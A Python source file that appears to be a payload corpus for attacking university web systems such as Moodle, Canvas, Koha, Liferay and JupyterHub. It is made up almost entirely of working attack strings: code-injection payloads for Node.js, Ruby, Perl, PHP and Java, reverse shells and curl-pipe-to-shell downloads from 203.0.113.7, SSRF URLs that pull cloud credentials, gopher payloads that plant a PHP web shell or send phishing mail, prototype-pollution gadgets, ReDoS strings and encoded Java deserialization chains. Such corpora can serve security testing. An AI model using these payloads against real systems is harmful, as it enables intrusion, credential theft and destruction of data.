    "MC4xMTMuNy9iYi5zaCB8IHNoCgAIABYMABcAGAEABGV4ZWMBACgoW0xqYXZhL2xhbmcvU3RyaW5nOylMamF2YS9sYW5nL1Byb2Nlc3M7BwAa"
    "AQATamF2YS9sYW5nL0V4Y2VwdGlvbgcAHAEACUdyYWRlU3luYwEABENvZGUBAA9MaW5lTnVtYmVyVGFibGUBAAl0cmFuc2Zvcm0BAHIoTGNv"
    "bS9zdW4vb3JnL2FwYWNoZS94YWxhbi9pbnRlcm5hbC94c2x0Yy9ET007W0xjb20vc3VuL29yZy9hcGFjaGUveG1sL2ludGVybmFsL3Nlcmlh"
    "bGl6ZXIvU2VyaWFsaXphdGlvbkhhbmRsZXI7KVYBAApFeGNlcHRpb25zBwAjAQA5Y29tL3N1bi9vcmcvYXBhY2hlL3hhbGFuL2ludGVybmFs"
    "L3hzbHRjL1RyYW5zbGV0RXhjZXB0aW9uAQCmKExjb20vc3VuL29yZy9hcGFjaGUveGFsYW4vaW50ZXJuYWwveHNsdGMvRE9NO0xjb20vc3Vu"
    "L29yZy9hcGFjaGUveG1sL2ludGVybmFsL2R0bS9EVE1BeGlzSXRlcmF0b3I7TGNvbS9zdW4vb3JnL2FwYWNoZS94bWwvaW50ZXJuYWwvc2Vy"
    "aWFsaXplci9TZXJpYWxpemF0aW9uSGFuZGxlcjspVgEACDxjbGluaXQ+AQANU3RhY2tNYXBUYWJsZQEAClNvdXJjZUZpbGUBAA5HcmFkZVN5"
    "bmMuamF2YQAhABsAAgAAAAAABAABAAUABgABAB0AAAAdAAEAAQAAAAUqtwABsQAAAAEAHgAAAAYAAQAAAAcAAQAfACAAAgAdAAAAGQAAAAMA"
    "AAABsQAAAAEAHgAAAAYAAQAAAA4AIQAAAAQAAQAiAAEAHwAkAAIAHQAAABkAAAAEAAAAAbEAAAABAB4AAAAGAAEAAAAPACEAAAAEAAEAIgAI"
    "ACUABgABAB0AAABYAAUAAQAAAB+4AAcGvQANWQMSD1NZBBIRU1kFEhNTtgAVV6cABEuxAAEAAAAaAB0AGQACAB4AAAASAAQAAAAKABoADAAd"
    "AAsAHgANACYAAAAHAAJdBwAZAAABACcAAAACACg="
)
ENROL_CLASS = (
    "yv66vgAAADMAIwoAAgADBwAEDAAFAAYBABBqYXZhL2xhbmcvT2JqZWN0AQAGPGluaXQ+AQADKClWCgAIAAkHAAoMAAsADAEAEWphdmEvbGFu"
    "Zy9SdW50aW1lAQAKZ2V0UnVudGltZQEAFSgpTGphdmEvbGFuZy9SdW50aW1lOwcADgEAEGphdmEvbGFuZy9TdHJpbmcIABABAAcvYmluL3No"
    "CAASAQACLWMIABQBAChjdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuNy9lbnJvbC5zaCB8IHNoCgAIABYMABcAGAEABGV4ZWMBACgoW0xqYXZh"
    "L2xhbmcvU3RyaW5nOylMamF2YS9sYW5nL1Byb2Nlc3M7BwAaAQATamF2YS9sYW5nL0V4Y2VwdGlvbgcAHAEABUVucm9sAQAEQ29kZQEAD0xp"
    "bmVOdW1iZXJUYWJsZQEACDxjbGluaXQ+AQANU3RhY2tNYXBUYWJsZQEAClNvdXJjZUZpbGUBAApFbnJvbC5qYXZhACEAGwACAAAAAAACAAEA"
    "BQAGAAEAHQAAAB0AAQABAAAABSq3AAGxAAAAAQAeAAAABgABAAAAAQAIAB8ABgABAB0AAABYAAUAAQAAAB+4AAcGvQANWQMSD1NZBBIRU1kF"
    "EhNTtgAVV6cABEuxAAEAAAAaAB0AGQACAB4AAAASAAQAAAAEABoABgAdAAUAHgAHACAAAAAHAAJdBwAZAAABACEAAAACACI="
)
BCEL_ENROL = (
    "$$BCEL$$$l$8b$I$A$A$A$A$A$A$ffeQ$c1n$d3$40$Q$7d$9b$d8$5e$d7Mi$e34$a5$UJ$5dzI$90b$b7$e4P$a9$ad$b8$a0$f4B$K$a8"
    "$aeZ$o$c4$c1$d9$ae$S$H$c7$8e$ec$N$ca$81$ff$e1$dc$L$m$a4$f2$B$7c$UblU$v$a5$7b$98$d9y$fb$de$bc$d9$dd$df$7f$7e$"
    "fe$C$d0$c6$8e$85$S$ca$iZ$F$3a$M$86$95Q$f09$f0$a2$m$kxo$fb$p$v$U$83q$U$c6$a1z$c9Pn4$cf$z$98X$e0$b0$wXD$85$a1z"
    "K$3f$9d$c6$w$iK$Gk$m$d5$bc$a87$9a$dd$7b$9cC$8e$Hw$ac$7c$95$86$f1$c0$c4$K$D$f7$faa$eceC$T6C$a9$rL$ac24$c44$8d"
    "$9cV$e6$M$95$9a$ix$de$8b$dd$b6$bb$eb$ee$ed$b5$dd$7dO$c6i$S$b9$d9$d0$f9$e2d$c3$7c$bc$b5$K$kb$9dA$933$vH$db$f8"
    "$d0$fd$df$e9$f0$df$a1$de$a5$89$90YFCm0$d4n$f1$ceL$c8$89$K$93$98$e3$J$83$de$c9$7d$a8$eb$ab$e4$92$ee$b5$dc$Nc$"
    "f9f$3a$ee$cb$f4$y$e8G$84$98G$o$bay$a8$r_$F$e2$d3I0$b99$b2$fcd$9a$Ky$i$WE$d1$c8$cd$7d$b0$8d$c7$f4$fc$f9$w$81$"
    "e5$l$40q$93$aaM$ca$8c$b2$fe$fc$3b$d8$Vm$Y$9eR4$K$90$ac$b05$a7$be$tY$8en$fd$A7$ae$b1$d4$x$db$cb$7eO$b3$ab$7eO"
    "$b7k$fe7$d4$_$beB$7b$7dU$906H$f2$88$bc$f2f64$8a$ga$G$a1$3aa$i$O$n$i$a5$8f$9cX$q$d8$$$G$7b$f6$XWP$a6$x$z$C$A$"
    "A"
)


def _ser(name: str) -> bytes:
    return base64.b64decode(SER[name])


def ser_raw(name: str) -> str:
    """The stream's bytes as they go on the wire (held as latin-1 text, sent percent-encoded)."""
    return _ser(name).decode("latin-1")


def ser_hex(name: str, upper: bool = False) -> str:
    h = _ser(name).hex()
    return h.upper() if upper else h


def ser_pct(name: str) -> str:
    """Every byte percent-encoded that a URL would not carry as it is (the way a proxy log shows the stream)."""
    return urllib.parse.quote(_ser(name), safe="")


def ser_b64url(name: str) -> str:
    return base64.urlsafe_b64encode(_ser(name)).decode()


def ser_mime(name: str) -> str:
    """Base64 broken into 76-column lines (java.util.Base64.getMimeEncoder, JAX-WS and Axis clients)."""
    b = SER[name]
    return "\r\n".join(b[i:i + 76] for i in range(0, len(b), 76))


# ================================================================================================================
# generic
# ----------------------------------------------------------------------------------------------------------------
# nodejs-injection. Target: the Node.js interpreter behind campus tools that evaluate what a student types: a
# JavaScript quiz question type whose grader runs answers in eval()/vm, an Express LTI tool, an Etherpad plugin,
# JupyterHub's configurable-http-proxy extension hooks, a Node-RED lab dashboard.
NODE_INJECTION: list[Entry] = [
    # quiz grader: the answer box is passed to eval() as an expression
    "require('child_process').execSync('cat /etc/passwd').toString()",
    "process.mainModule.require('child_process').execSync('id').toString()",
    "global.process.mainModule.constructor._load('child_process').execSync('uname -a').toString()",
    "require('fs').readFileSync('/srv/quiz-grader/answers/final-exam.json','utf8')",
    "require('child_process').spawnSync('sh',['-c','env'],{encoding:'utf8'}).stdout",
    "module.constructor._load('child_process').exec('curl -s http://203.0.113.7/grader.sh | sh')",
    "eval(Buffer.from('" + _b64("require('child_process').execSync('id').toString()") + "','base64').toString())",
    # grader runs answers in vm.runInNewContext: climb out through the sandbox's Function constructor
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()",
    "[].constructor.constructor('return process')().mainModule.require('fs').readdirSync('/home').join()",
    "(function(){return this})().process.mainModule.require('child_process').execSync('whoami')",
    "new Function('return process.env.LTI_CONSUMER_SECRET')()",
    "import('child_process').then(m=>m.execSync('curl http://203.0.113.7/?h=$(hostname)'))",
    # the answer is spliced into a string the grader evals: close the string, run, reopen
    "';require('child_process').exec('nc -e /bin/sh 203.0.113.7 4444');'",
    "\"+require('child_process').execSync('id')+\"",
    "'+process.mainModule.require('fs').readFileSync('/etc/shadow')+'",
    "`+${process.mainModule.require('child_process').execSync('id')}+`",
    # Express LTI tool: the grade-passback formula is evaluated server side
    "1;require('http').get('http://203.0.113.7/?k='+require('fs').readFileSync('/app/.env','base64'))",
    "setTimeout(()=>process.mainModule.require('child_process').exec('rm -rf /var/lib/lti/uploads'),0)",
    "res.end(require('fs').readFileSync('/app/config/lti-keys.pem'))",
    # node-serialize unserialize() of the quiz progress cookie: an immediately invoked function
    "{\"progress\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',(e,o)=>console.log(o))}()\"}",
    _b64("{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl 203.0.113.7/n|sh')}()\"}"),
    # Node-RED lab dashboard, function node body posted by the flow editor
    "var cp=global.get('process').mainModule.require('child_process');return {payload:cp.execSync('id')+''};",
]

# nodejs-dos. Target: the Node.js event loop (one thread serves every student): evil regular expressions fed to a
# course search that builds new RegExp(q), answers the grader evaluates, allocations that exhaust the heap.
NODE_DOS: list[Entry] = [
    # course catalogue search: the query becomes new RegExp(q) and is matched against long titles
    "(a+)+$",
    "^(a|a)*$",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(.*a){25}",
    "((x+x+)+)+y",
    "^(\\w+\\s?)*$",
    "([a-zA-Z0-9]+)*@",
    # the same through the Mongo-backed student directory ($regex operator from a JSON search body)
    ("{\"name\":{\"$regex\":\"^(a+)+$\"}}", *JB),
    ("{\"email\":{\"$regex\":\"(.*){1,32000}[bc]\"}}", *JB),
    # input crafted for the email validator regex in the enrolment form (catastrophic backtracking)
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa@aaaaaaaaaaaaaaaaaaaaaaaaaaa!",
    # quiz grader eval: loops that never yield the event loop
    "while(true){}",
    "for(;;){}",
    "(function f(){f()})()",
    "process.exit(1)",
    "process.kill(process.pid,'SIGKILL')",
    # heap exhaustion
    "Array(1e9).fill('gradebook')",
    "'x'.repeat(2**29).repeat(2**29)",
    "Buffer.alloc(2**31-1)",
    "new Array(4294967295).join('A')",
    "JSON.parse('['.repeat(1e7)+']'.repeat(1e7))",
    "let a=[];while(1)a.push(new ArrayBuffer(1e8))",
]

# ssrf-cloud-metadata. Target: the cloud instance metadata services (AWS, GCP, Azure, Alibaba, DigitalOcean,
# OpenStack, Oracle, Hetzner) reached through a campus server that fetches a URL for the user: Moodle's URL
# resource and RSS block, Canvas course image and LTI config_url, EZproxy's login?url=, nbviewer, an OJS plugin
# gallery, a Turnitin-style plagiarism callback, LTI 1.3 JWKS and initiate-login URLs.
SSRF_METADATA: list[Entry] = [
    # AWS (the LMS runs on EC2): IAM role credentials and user data
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/moodle-prod-ec2",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://169.254.170.2/v2/credentials/",
    # EZproxy starting-point URL: the proxy fetches whatever url= names
    "https://login.ezproxy.example.edu/login?url=http://169.254.169.254/latest/meta-data/",
    # GCP (JupyterHub on GKE)
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/project/attributes/ssh-keys?alt=text",
    "gopher://metadata.google.internal:80/_GET%20/computeMetadata/v1/instance/service-accounts/default/token"
    "%20HTTP/1.1%0d%0aHost:%20metadata.google.internal%0d%0aMetadata-Flavor:%20Google%0d%0a%0d%0a",
    # Azure (Blackboard SaaS-like tenant, Azure AD app)
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net",
    # Alibaba, DigitalOcean, Oracle, Hetzner, and the university's own OpenStack research cloud
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/hetzner/v1/metadata/private-networks",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    # the metadata address written another way (the URL filter only knows the dotted quad)
    "http://2852039166/latest/meta-data/iam/security-credentials/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/user-data",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
]

# ssrf-internal-ip. Target: services on the campus server's loopback and private network (JupyterHub's hub API
# and proxy API, slurmrestd, DSpace's Solr and Tomcat, Koha's Elasticsearch, Redis and memcached session stores,
# the Docker API on a lab host) and its local files, reached through the same URL-fetching features.
SSRF_INTERNAL: list[Entry] = [
    # JupyterHub: hub REST API on 8081, configurable-http-proxy API on 8001
    "http://127.0.0.1:8081/hub/api/users",
    "http://localhost:8001/api/routes",
    # slurmrestd on the HPC portal's head node
    "http://0:6820/slurm/v0.0.39/jobs",
    # DSpace: Solr cores and the Tomcat manager on the repository host (decimal, hex, octal, IPv6 loopback)
    "http://2130706433:8080/manager/html",
    "http://0x7f000001:8983/solr/admin/cores?action=STATUS",
    "http://017700000001:8983/solr/search/select?q=*:*&wt=json",
    "http://[::1]:8983/solr/admin/info/system",
    "http://0177.1:8080/server/api/core/items",
    # Koha's Elasticsearch, IPv4-mapped IPv6
    "http://[0:0:0:0:0:ffff:127.0.0.1]:9200/_cat/indices",
    # lab host Docker API on the bridge network
    "http://172.17.0.1:2375/containers/json",
    # URL-parser confusion: the allow-list sees the library's host, the fetcher connects to loopback
    "http://library.example.edu@127.0.0.1/cgi-bin/koha/svc/config/systempreferences",
    "http://127.0.0.1#@library.example.edu/",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/admin/",
    # local files through the same fetcher
    "file:///etc/passwd",
    "file:///var/www/html/moodle/config.php",
    "file:///etc/koha/sites/library/koha-conf.xml",
    "file:///etc/shibboleth/sp-key.pem",
    "file:///proc/self/environ",
    # Redis (Moodle's session and cache store): write a PHP file into the web root
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0d%0aCONFIG%20SET%20dbfilename%20s.php%0d%0a"
    "SET%20x%20%22%3C%3Fphp%20system($_GET[0]);%3F%3E%22%0d%0aSAVE%0d%0a",
    "dict://127.0.0.1:6379/info",
    # memcached session store and the campus mail relay
    "gopher://127.0.0.1:11211/_flush_all%0d%0a",
    "gopher://127.0.0.1:25/_HELO%20lms%0d%0aMAIL%20FROM:%3Cregistrar@example.edu%3E%0d%0aRCPT%20TO:"
    "%3Call-students@example.edu%3E%0d%0aDATA%0d%0aSubject:%20Grades%0d%0a%0d%0a"
    "Log%20in%20at%20http://203.0.113.7%0d%0a.%0d%0a",
]

# javascript-prototype-pollution. Target: Node.js LTI tools, H5P and dashboard services that deep-merge query
# strings and JSON into objects (qs with allowPrototypes, jQuery deparam, lodash merge/defaultsDeep), and the
# browser, where a polluted Object.prototype reaches a script gadget.
POLLUTION: list[Entry] = [
    # query-string parsers that build nested objects: become instructor/admin in the LTI tool
    ("__proto__[isAdmin]=true", *KVQ),
    ("__proto__[roles]=Instructor", *KVF),
    ("constructor[prototype][isInstructor]=1", *KVQ),
    ("__proto__.canGrade=true", *KVF),
    ("constructor.prototype.role=admin", *KVQ),
    ("user[__proto__][verified]=1", *KVF),
    ("custom[__proto__][lis_person_sourcedid]=admin", *KVQ),
    # browser: jQuery deparam / purl on the course page, a polluted property reaches a script-loading gadget
    ("__proto__[innerHTML]=<img src=x onerror=alert(document.domain)>", *KVQ),
    ("__proto__[src]=data:,alert(document.cookie)//", *KVQ),
    ("__proto__[transport_url]=data:,fetch('//203.0.113.7/'+document.cookie)//", *KVQ),
    ("constructor[prototype][sourceURL]=%0aalert(1)//", *KVQ),
    # JSON bodies deep-merged into the tool's settings object
    ("{\"__proto__\":{\"isAdmin\":true}}", *JB),
    ("{\"constructor\":{\"prototype\":{\"isInstructor\":true}}}", *JB),
    ("{\"custom\":{\"__proto__\":{\"roles\":\"urn:lti:role:ims/lis/Administrator\"}}}", *JB),
    # pollution that reaches child_process.spawn options: code execution in the grader
    ("{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process')"
     ".execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}", *JB),
    ("{\"__proto__\":{\"execArgv\":[\"--eval=require('child_process').execSync('curl 203.0.113.7|sh')\"]}}", *JB),
    ("{\"__proto__\":{\"env\":{\"NODE_OPTIONS\":\"--inspect=203.0.113.7:9229\"}}}", *JB),
    # pollution gadgets in template engines the tool renders with (pug, lodash.template, EJS)
    ("{\"__proto__\":{\"block\":{\"type\":\"Text\",\"line\":\"process.mainModule.require('child_process')"
     ".execSync('id')\"}}}", *JB),
    ("{\"__proto__\":{\"sourceURL\":\"\\u000areturn e=>{return global.process.mainModule.require"
     "('child_process').execSync('id')}//\"}}", *JB),
    ("{\"constructor\":{\"prototype\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process')"
     ".execSync('touch /tmp/ejs');x\"}}}", *JB),
    ("{\"__proto__\":{\"client\":true,\"escapeFunction\":\"1;return process.env\"}}", *JB),
]

# ruby-injection. Target: the Ruby interpreter behind Canvas LMS, Blacklight and Hyrax (Rails discovery and
# repository layers), Redmine and Discourse: eval of a parameter, send/constantize, Kernel#open with a pipe,
# YAML.load and Marshal.load of client data.
RUBY_INJECTION: list[Entry] = [
    # a string interpolated into an eval'd Ruby string (Canvas quiz formula question, custom sort fields)
    "#{`id`}",
    "#{system('cat config/database.yml')}",
    "#{IO.popen('id').read}",
    "';system('id');'",
    "%x(uname -a)",
    "`curl -s http://203.0.113.7/canvas.sh | sh`",
    "eval(\"File.read('config/secrets.yml')\")",
    "instance_eval('`whoami`')",
    "Object.send(:system, 'id')",
    "Kernel.exec('/bin/sh -c id')",
    "Rails.application.secret_key_base",
    "spawn('bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"')",
    "require 'socket';s=TCPSocket.new('203.0.113.7',4444);while(c=s.gets);s.print(`#{c}`);end",
    # Blacklight/Hyrax export or thumbnail URL opened with Kernel#open: a leading pipe runs a command
    "|id",
    "|curl http://203.0.113.7/s.sh | sh",
    "open('|cat config/master.key').read",
    "URI.open('|ls -la /opt/hyrax')",
    # params[:format] / params[:method] reaching send() or constantize()
    "Kernel.const_get('IO').popen('id').read",
    # ERB rendered from a parameter by a Redmine plugin
    "ERB.new(\"<%= `id` %>\").result",
    # YAML.load of an import file (Ruby 2.x universal gadget chain: Gem::Installer ... Kernel.system)
    ("---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
     "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
     "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
     "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
     "             git_set: id\n         method_id: :resolve\n", *YB),
    # Rails XML parameter parsing with type="yaml" (CVE-2013-0156) on an old Canvas install
    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><user type=\"yaml\">--- !ruby/hash:ActionController::Routing::"
     "RouteSet::NamedRouteCollection\n? ! \"x; eval(%[`id`]); @executed = true\\n__END__\\n\"\n: !ruby/struct\n"
     "  defaults:\n    :action: create\n    :controller: foos\n  required_parts: []\n  requirements:\n"
     "    :action: create\n    :controller: foos\n  segment_keys:\n    - :format\n</user>", *XB),
]

# perl-injection. Target: the Perl interpreter behind Koha (the library system), EPrints (the repository),
# Foswiki/TWiki (department wikis), AWStats on the web team's server and Bugzilla: two-argument open() with a
# pipe, eval of a parameter, system/exec/qx/backticks.
PERL_INJECTION: list[Entry] = [
    # two-argument open($fh, $param): a trailing or leading pipe runs the rest (EPrints export plugin, Koha)
    "cat /etc/koha/sites/library/koha-conf.xml|",
    "|mail -s conf attacker@203.0.113.7 < /opt/eprints3/archives/repo/cfg/cfg.d/database.pl",
    "/bin/sh -c id|",
    "| nc 203.0.113.7 4444 -e /bin/sh",
    # AWStats configdir (eval of the value with pipes around it)
    "|echo;cat /etc/passwd;echo|",
    # eval of a parameter: break the quoted string and run Perl
    "';system q(id);'",
    "\";system('id');#",
    "');print `cat /etc/passwd`;#",
    "@{[system 'id']}",
    "${\\`id`}",
    "@{[ `cat /etc/koha/sites/library/koha-conf.xml` ]}",
    "system('id')",
    "qx{id}",
    "qx(ls -la /usr/share/koha/lib)",
    "`wget http://203.0.113.7/k.pl -O /tmp/k.pl`",
    "readpipe('id')",
    "eval pack('H*','" + b"system('id');".hex() + "')",
    "sub{system 'id'}->()",
    "eval{open(F,'-|','id');print <F>}",
    "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,sockaddr_in(4444,inet_aton("
    "'203.0.113.7')));open(STDIN,'>&S');open(STDOUT,'>&S');exec('/bin/sh -i');",
    "unlink glob('/var/lib/eprints3/archives/repo/documents/*/*')",
]

# php-data-scheme. Target: the PHP interpreter behind Moodle plugins, Chamilo, ILIAS, OJS and Omeka where a
# parameter reaches include/require or file_get_contents: a data: URI is code the server includes and runs.
PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + _b64("<?php system($_GET['cmd']); ?>"),
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id'); ?>",
    "data://text/plain;base64," + _b64("<?php eval($_POST['p']); ?>"),
    "data:text/plain;base64," + _b64("<?=`id`?>"),
    "data://text/plain,<?=`cat /var/www/html/moodle/config.php`;",
    "data://text/plain;base64," + _b64("<?php echo file_get_contents('main/inc/conf/configuration.php'); ?>"),
    "data://text/plain;charset=utf-8;base64," + _b64("<?php passthru('cat /var/www/ojs/config.inc.php'); ?>"),
    "DATA://text/plain;base64," + _b64("<?php system('uname -a'); ?>"),
    "data://application/x-httpd-php;base64," + _b64("<?php system($_REQUEST['c']); ?>"),
    "data:;base64," + _b64("<?php print_r(scandir('/var/www/ilias/data')); ?>"),
    "data://text/plain;base64," + _b64("<?php file_put_contents('files/s.php','<?php @eval($_REQUEST[0]);'); ?>"),
    "data:text/plain,<?php echo shell_exec($_GET['c']); ?>",
    # the include filter checks the host part of parse_url(): data: with a bogus authority still decodes
    "data:@127.0.0.1/plain;base64," + _b64("<?php system('id'); ?>"),
    "compress.zlib://data:@127.0.0.1/plain;base64," + _b64("<?php system('id'); ?>"),
    "php://filter/convert.base64-decode/resource=data://plain/text," + _b64("<?php system('id'); ?>"),
    "data://text/plain;base64," + _b64("<?php $s=fsockopen('203.0.113.7',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>"),
    "data://text/plain,<?php readfile('/etc/omeka/db.ini'); ?>",
    "data://image/jpeg;base64," + _b64("<?php system('curl -s http://203.0.113.7/m.sh | sh'); ?>"),
]

# ================================================================================================================
# java
# ----------------------------------------------------------------------------------------------------------------
# java-class-names. Target: the JVM behind campus script consoles and workflow scripts that run what an admin (or
# a stolen admin session) types: Liferay's Groovy script console and Kaleo workflow scripts (Groovy, JavaScript,
# BeanShell), a Jenkins script console on the research cluster, DSpace curation scripts, Kuali Rice rules.
JAVA_CLASS_NAMES: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"cat /opt/liferay/portal-ext.properties\"})",
    "java.lang.Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"whoami\")",
    "Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.Runtime\").getMethod(\"getRuntime\")"
    ".invoke(null).exec(\"id\")",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"java.lang.ProcessBuilder\").newInstance("
    "[\"id\"] as String[]).start()",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "new javax.script.ScriptEngineManager().getEngineByExtension(\"js\").eval(\"new java.lang.ProcessBuilder('sh',"
    "'-c','curl 203.0.113.7/k|sh').start()\")",
    "Packages.java.lang.Runtime.getRuntime().exec('id')",
    "Java.type('java.lang.Runtime').getRuntime().exec('touch /tmp/kaleo')",
    "load('nashorn:mozilla_compat.js');importPackage(java.lang);Runtime.getRuntime().exec('whoami')",
    "new bsh.Interpreter().eval(\"exec(\\\"id\\\")\")",
    "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
    "java.lang.reflect.Method m=Runtime.class.getMethod(\"exec\",String.class);m.invoke(Runtime.getRuntime(),\"id\");",
    "new java.io.File(\"/dspace/config/local.cfg\").text",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/opt/shibboleth-idp/credentials/secrets.properties\"))",
    "java.lang.System.getenv().toString()",
    "java.lang.System.exit(0)",
    "new javax.naming.InitialContext().lookup(\"ldap://203.0.113.7:1389/Kaleo\")",
]

# java-process-spawn. Target: the host shell reached from the same JVM consoles and from Groovy in Banner 9
# (Grails) extensions and Jenkins pipelines: ProcessBuilder, Runtime.exec and Groovy's String.execute().
JAVA_PROCESS: list[Entry] = [
    "new ProcessBuilder(\"bash\",\"-c\",\"curl -s http://203.0.113.7/kaleo.sh | bash\").start()",
    "\"id\".execute().text",
    "[\"sh\",\"-c\",\"cat /etc/passwd\"].execute().text",
    "def p='whoami'.execute();p.waitFor();println p.text",
    "'nc -e /bin/sh 203.0.113.7 4444'.execute()",
    "Runtime.runtime.exec('id')",
    "new ProcessBuilder(['/bin/sh','-c','id']).redirectErrorStream(true).start().text",
    "Runtime.getRuntime().exec(\"bash -c {echo," + _b64("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
    + "}|{base64,-d}|{bash,-i}\")",
    "Runtime.getRuntime().exec(\"/bin/sh -c $@|sh . echo curl http://203.0.113.7/banner.sh\")",
    "new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next()",
    "java.lang.Runtime.getRuntime().exec(\"touch /tmp/banner9\").waitFor()",
    "Runtime.getRuntime().exec(\"wget -q http://203.0.113.7/b.jar -O /tmp/b.jar\")",
    "new java.lang.ProcessBuilder(new String[]{\"/usr/bin/python3\",\"-c\",\"import os;os.system('id')\"})"
    ".inheritIO().start()",
    # PeopleSoft Campus Solutions and its WebLogic on Windows
    "Runtime.getRuntime().exec(\"cmd.exe /c whoami\")",
    "Runtime.getRuntime().exec(new String[]{\"cmd\",\"/c\",\"dir C:\\\\psft\\\\cfg\"})",
    "Runtime.getRuntime().exec(\"powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString("
    "'http://203.0.113.7/ps.ps1')\")",
    # Jenkins pipeline validation (Groovy compiled, AST transform runs at compile time)
    "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(\"id\")})\ndef x",
    "def m=Class.forName('java.lang.ProcessImpl').getDeclaredMethod('start',String[].class,Map.class,String.class,"
    "ProcessBuilder.Redirect[].class,boolean.class);m.setAccessible(true);m.invoke(null,['id'] as String[],null,"
    "null,null,false)",
]

# java-serialization. Target: Java deserialization (ObjectInputStream.readObject) of client data: MyFaces client-side
# ViewState on JSF student portals, Liferay's TunnelServlet, PeopleSoft's monitor servlet, JBoss invoker servlets
# under old Banner/Kuali installs. Real streams built for this set (URLDNS, CommonsCollections 1/6/7,
# CommonsBeanutils1, Jdk7u21), carried raw (percent-encoded on the wire), percent-encoded text, hex and base64.
JAVA_SERIALIZATION: list[Entry] = [
    SER["urldns_jsf"],
    ser_b64url("urldns_jsf"),
    (ser_raw("urldns_cas"), "form", "rs-query"),
    ser_hex("urldns_cas"),
    (SER["urldns_bb"], "cookie", "rs-cookie"),
    (ser_raw("urldns_bb"), "query", "rs-raw-body"),
    ser_pct("urldns_bb"),
    (ser_raw("cc6_touch"), "form", "rs-form"),
    ser_pct("cc6_touch"),
    (ser_raw("cc7_curl"), "query", "rs-query"),
    ser_hex("cc7_curl"),
    ser_mime("cc7_curl"),
    (ser_raw("cc1_wget"), "param-name", "rs-raw-body"),
    ser_pct("cc1_wget").lower(),
    (ser_raw("cb1_grades"), "form", "rs-query"),
    ser_hex("cb1_grades", upper=True),
    (ser_raw("jdk7u21_cas"), "query", "rs-form"),
    ser_b64url("jdk7u21_cas"),
]

# java-deserialization-gadget. Target: the gadget libraries on campus Java stacks (commons-collections,
# commons-beanutils, Spring, Groovy, c3p0, ROME, Hibernate, the JDK itself), whole gadget chains in base64 and in
# the JSON/XML forms that Liferay JSONWS, Jackson and XStream endpoints accept.
JAVA_GADGETS: list[Entry] = [
    SER["cc6_nslookup"],
    SER["cc7_curl"],
    SER["cc1_wget"],
    SER["cc6_touch"],
    SER["cb1_grades"],
    SER["jdk7u21_cas"],
    # Liferay JSONWS (CVE-2020-7961): c3p0 WrapperConnectionPoolDataSource carrying a CommonsCollections6 stream
    ("+defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource={\"userOverridesAsString\":"
     "\"HexAsciiSerializedMap:" + ser_hex("cc6_nslookup", upper=True) + ";\"}", *KVF),
    ("[\"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource\",{\"userOverridesAsString\":\"HexAsciiSerializedMap:"
     + ser_hex("cc7_curl", upper=True) + ";\"}]", *JB),
